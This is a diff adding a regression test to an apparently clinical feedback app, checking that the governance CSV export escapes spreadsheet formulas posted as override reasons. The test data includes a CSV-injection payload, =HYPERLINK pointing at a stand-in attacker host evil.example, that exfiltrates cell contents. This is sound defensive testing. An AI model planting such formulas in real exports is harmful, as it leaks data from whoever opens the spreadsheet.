@@ -168,3 +168,17 @@ def test_postgresql_down_keeps_the_instance_ready_and_reports_the_outage(tmp_pat
         assert sample(text, "avh_cds_feedback_store_failures_total") > failures
     finally:
         app.extensions["avh"].store.dispose()
+
+
+def test_a_formula_posted_as_an_override_reason_is_text_in_the_governance_csv(client):
+    """Attack: feedback whose override reason code is `=HYPERLINK("http://evil.example/?"&A1,"open")`; the
+    governance CSV carried it as is, so the committee's spreadsheet ran it as a formula (CSV injection)."""
+    import csv
+    import io
+    cards = issue_cards(client)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert post_feedback(client, [overridden(cards["steroid-duration"], code=formula),
+                                  overridden(cards["steroid-duration"], code="@SUM(1+1)", when="2026-11-24T10:06:00Z")]).status_code == 200
+    response = client.get("/governance?format=csv&from=2026-11-01&to=2026-11-30")
+    items = {r["item"] for r in csv.DictReader(io.StringIO(response.get_data(as_text=True))) if r["section"] == "override_reason"}
+    assert items == {"'" + formula, "'@SUM(1+1)"}
